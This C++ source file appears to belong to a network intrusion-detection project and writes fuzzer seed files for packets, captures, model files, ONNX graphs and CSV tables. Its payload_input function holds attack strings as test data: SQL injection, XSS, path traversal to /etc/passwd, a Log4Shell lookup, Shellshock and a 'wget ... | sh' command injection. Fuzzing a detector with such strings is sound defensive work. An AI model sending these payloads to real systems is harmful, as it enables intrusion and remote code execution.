// make_seeds FOLDER: inputs to start the fuzzers from, so that even a short run gets past the headers.
#include <algorithm>
#include <cstdio>
#include <exception>
#include <filesystem>
#include <string>
#include <string_view>
#include <utility>

#include "detect/baselines_file.h"
#include "detect/lessons_file.h"
#include "model_container.h"
#include "onnx.pb.h"
#include "onnx_export.h"
#include "support/pcap_writer.h"
#include "support/random_frames.h"
#include "support/windows.h"
#include "unit/model/random_forest.h"

namespace weir::test {
namespace {

constexpr int kFiles = 200, kFrames = 6;

/// Many short frames fill the smallest tables.
Bytes packet_input(RandomFrames& frames, int count, std::size_t most_bytes) {
  constexpr std::size_t kAllTunnels = 31;
  const std::size_t opened = frames.pick(2) == 0 ? kAllTunnels : frames.pick(kAllTunnels + 1);
  Bytes out = {static_cast<std::uint8_t>(opened), static_cast<std::uint8_t>(frames.pick(256))};
  for (int i = 0; i < count; ++i) {
    Bytes frame = frames.next();
    frame.resize(std::min<std::size_t>(frame.size(), most_bytes));
    const Bytes head = {static_cast<std::uint8_t>(frame.size()),
                        static_cast<std::uint8_t>(frame.size() >> 8 | (frames.pick(8) == 0 ? 0x80u : 0u)),
                        static_cast<std::uint8_t>(frames.pick(4)), static_cast<std::uint8_t>(frames.pick(256))};
    out.insert(out.end(), head.begin(), head.end());
    out.insert(out.end(), frame.begin(), frame.end());
  }
  return out;
}

Bytes capture_input(RandomFrames& frames) {
  constexpr std::uint32_t kLinks[] = {PcapWriter::kEthernet, PcapWriter::kNull, PcapWriter::kRaw, PcapWriter::kCooked,
                                      PcapWriter::kCooked2};
  PcapWriter file(kLinks[frames.pick(std::size(kLinks))], frames.pick(2) == 0);
  for (int i = 0; i < kFrames; ++i) file.add(1'700'000'000'000'000'000 + i * 400'000'000LL, frames.next());
  return file.bytes();
}

/// A forest of another library; the fuzzer puts the hash right.
Bytes model_input(unsigned number) {
  const Shape shape{.columns = 1 + number % 20,
                    .trees = 1 + number % 4,
                    .depth = 1 + number % 5,
                    .values = 50,
                    .has_missing = number % 2 == 0};
  Safetensors content;
  content.metadata = {{"format", kModelFormat}, {"sha256", std::string(64, '0')}};
  for (unsigned i = 0; i < shape.columns; ++i) content.metadata["features"] += (i == 0 ? "f" : ",f") + std::to_string(i);
  put_forest(RandomForest(shape, number).arrays().view(), content);
  return write_safetensors(content).value();
}

/// What a sensor learned in so many windows of two hosts.
Bytes lessons_input(unsigned number) {
  LearningState state;
  for (unsigned window = 0; window < number; ++window) {
    const auto at = static_cast<int>(window);
    HostWindow asked = ordinary_window("2001:db8::9", at);
    asked.role = Role::kDestination;
    const ClosedWindow closed = closed_window(at, {ordinary_window("10.0.0.1", at), asked});
    Judgement judgement = no_finding(closed);
    if (window == 1) judgement.verdicts[0].kinds = {"syn_flood"};
    state.lessons.add(closed, judgement, {});
  }
  state.trainings = number;
  return learning_to_bytes(state).value();
}

/// What rules learned of so many hosts.
Bytes baselines_input(unsigned number) {
  Baselines b;
  for (unsigned i = 0; i < number; ++i) {
    const IpAddress host = IpAddress::v4(i);
    b.traffic.push_back({host, 3.5, 1, 6, 10 * i, 100 * i, i, {}});
    if (i % 2 == 0) b.traffic.back().season.emplace().maximum[i % 24] = 7;
    b.ports.push_back({host, 10 * i, 100 * i, i, i, 1});
    b.uses.push_back(
        {host, static_cast<std::uint16_t>(7000 + i / 3), i % 2 == 0 ? Role::kSource : Role::kDestination, i % 3 == 0});
  }
  arrange(b);
  return baselines_to_bytes(b).value();
}

Bytes onnx_export_input(unsigned number) {
  const Shape shape{.columns = 1 + number % 6,
                    .trees = 1 + number % 3,
                    .depth = 1 + number % 3,
                    .values = 50,
                    .has_missing = number % 2 == 0};
  std::vector<std::string> names;
  for (unsigned i = 0; i < shape.columns; ++i) names.push_back("f" + std::to_string(i));
  return forest_to_onnx(ColumnForest(Forest(RandomForest(shape, number).arrays()), names, {}, -0.5)).value();
}

onnx::Attribute& add_attribute(onnx::Node& node, const char* name, onnx::Attribute::Type type) {
  onnx::Attribute& attribute = *node.add_attribute();
  attribute.set_name(name);
  attribute.set_type(type);
  return attribute;
}

onnx::Node& add_node(onnx::Graph& graph, const char* type, std::initializer_list<const char*> inputs, const char* output) {
  onnx::Node& node = *graph.add_node();
  node.set_op_type(type);
  for (const char* input : inputs) node.add_input(input);
  node.add_output(output);
  return node;
}

/// As coniferest writes: one tree of one split, c(samples) folded into its leaves, minus the exponential.
Bytes onnx_ensemble_input(unsigned mode) {
  onnx::Model model;
  onnx::Graph& graph = *model.mutable_graph();
  graph.add_input()->set_name("x");
  graph.mutable_input(0)->mutable_type()->mutable_tensor_type()->set_elem_type(onnx::Tensor::FLOAT);
  onnx::Node& trees = add_node(graph, "TreeEnsemble", {"x"}, "depth");
  trees.set_domain("ai.onnx.ml");
  const auto add_numbers = [&trees](const char* name, std::initializer_list<std::int64_t> numbers) {
    onnx::Attribute& attribute = add_attribute(trees, name, onnx::Attribute::INTS);
    for (const std::int64_t number : numbers) attribute.add_ints(number);
  };
  const auto add_tensor = [&trees](const char* name, onnx::Tensor::Type type, std::size_t count) -> onnx::Tensor& {
    onnx::Tensor& tensor = *add_attribute(trees, name, onnx::Attribute::TENSOR).mutable_t();
    tensor.set_data_type(type);
    tensor.add_dims(static_cast<std::int64_t>(count));
    return tensor;
  };
  for (const char* name : {"tree_roots", "nodes_featureids", "nodes_truenodeids"}) add_numbers(name, {0});
  for (const char* name : {"nodes_trueleafs", "nodes_falsenodeids", "nodes_falseleafs", "nodes_missing_value_tracks_true"})
    add_numbers(name, {1});
  add_numbers("leaf_targetids", {0, 0});
  add_tensor("nodes_modes", onnx::Tensor::UINT8, 1).add_int32_data(static_cast<std::int32_t>(mode % 4));
  add_tensor("nodes_splits", onnx::Tensor::FLOAT, 1).add_float_data(0.5F);
  onnx::Tensor& weights = add_tensor("leaf_weights", onnx::Tensor::FLOAT, 2);
  weights.add_float_data(-0.8179F);  // -ln 2 / c(2) * (1 + c(1)) and a little more
  weights.add_float_data(-0.6931472F);
  add_node(graph, "Exp", {"depth"}, "exp");
  add_node(graph, "Neg", {"exp"}, "score");
  graph.add_output()->set_name("score");
  const std::string bytes = model.SerializeAsString();
  return {bytes.begin(), bytes.end()};
}

Bytes table_input(unsigned number) {
  constexpr std::string_view kTables[] = {"a,b\n1,2\n3,4\n", "b,c,a\r\n1,x,nan\r\n", "\"a\",\"b\"\n\"1\",\"-inf\"\n",
                                          "\xEF\xBB\xBF"
                                          "a, b\n1e999,2e-999\n,\n",
                                          "a,label,b\n1,x,2\n3,y,"};  // ends within a row
  const std::string_view table = kTables[number % std::size(kTables)];
  return {table.begin(), table.end()};
}

/// Protocol and ports as payload_fuzz reads them, then one head of each kind that has a meaning.
Bytes payload_input(unsigned number) {
  using namespace std::string_view_literals;
  constexpr std::string_view kTcp = "\1\x9c\x40\0\x50"sv, kQuery = "\x0a\x9c\x40\0\x35"sv, kAnswer = "\6\0\x35\x9c\x40"sv;
  constexpr std::pair<std::string_view, std::string_view> kHeads[] = {
      {kTcp, "GET /p?id=1%2527+union/**/select+1,2--+- HTTP/1.1\r\nUser-Agent: sqlmap/1.7\r\n"},
      {kTcp, "POST /a?q=%3Cscript%3Ealert(1) HTTP/1.1\r\nContent-Type: %{(#a='multipart/form-data')\r\n"},
      {kTcp, "GET /d?f=..%c0%af..%u2215..%252fetc/passwd%00 HTTP/1.0\r\nX: ${${::-j}ndi:ldap://e}\r\n"},
      {kTcp, "GET /c?x=1.1.1.1;wget+http://a/b|sh HTTP/1.1\r\nCookie: () { :; }; /bin/id\r\n"},
      {kTcp, "HTTP/1.1 404 Not Found\r\n"},
      {kTcp, "SSH-2.0-OpenSSH_9.2p1\r\n"},
      {kTcp, "USER root\r\n"},
      {kTcp, "a001 LOGIN bob secret\r\n"},
      {kTcp, "APOP bob c4c9334bac560ecc979e58001b3e22fb\r\n"},
      {kTcp, "535 5.7.8 authentication failed\r\n"},
      {kTcp, "-ERR [AUTH] login failed\r\n"},
      {kTcp, "a001 NO [AUTHENTICATIONFAILED] no\r\n"},
      {kQuery, "\x12\x34\1\0\0\1\0\0\0\0\0\0\3wWw\7eXample\0\0\1\0\1"sv},
      {kAnswer, "\x12\x34\x85\x83\0\1\0\0\0\1\0\0\3www\7example\0\0\1\0\1\xc0\x0c\0\6"sv},
  };
  const auto& [ports, head] = kHeads[number % std::size(kHeads)];
  Bytes out(ports.begin(), ports.end());
  out.insert(out.end(), head.begin(), head.end());
  return out;
}

void write_all(const std::string& folder) {
  RandomFrames frames(5);
  for (const char* name : {"packet_fuzz", "capture_fuzz", "model_file_fuzz", "csv_fuzz", "onnx_fuzz", "payload_fuzz",
                           "lessons_fuzz", "baselines_fuzz"})
    std::filesystem::create_directories(folder + "/" + name);
  for (int i = 0; i < kFiles; ++i) {
    save_file(folder + "/packet_fuzz/" + std::to_string(i),
              i % 2 == 0 ? packet_input(frames, kFrames, 500) : packet_input(frames, 8 * kFrames, 140));
    save_file(folder + "/capture_fuzz/" + std::to_string(i), capture_input(frames));
  }
  for (unsigned i = 0; i < 40; ++i) save_file(folder + "/model_file_fuzz/" + std::to_string(i), model_input(i));
  for (unsigned i = 0; i < 40; ++i)
    save_file(folder + "/onnx_fuzz/" + std::to_string(i), i < 36 ? onnx_export_input(i) : onnx_ensemble_input(i));
  for (unsigned i = 0; i < 10; ++i) save_file(folder + "/lessons_fuzz/" + std::to_string(i), lessons_input(i));
  for (unsigned i = 0; i < 10; ++i) save_file(folder + "/baselines_fuzz/" + std::to_string(i), baselines_input(i));
  for (unsigned i = 0; i < 14; ++i) save_file(folder + "/payload_fuzz/" + std::to_string(i), payload_input(i));
  for (unsigned i = 0; i < 5; ++i) save_file(folder + "/csv_fuzz/" + std::to_string(i), table_input(i));
}

}  // namespace
}  // namespace weir::test

int main(int count, char** arguments) try {
  if (count != 2) return 2;
  weir::test::write_all(arguments[1]);
  return 0;
} catch (const std::exception& error) {
  std::fprintf(stderr, "make_seeds: %s\n", error.what());
  return 1;
}
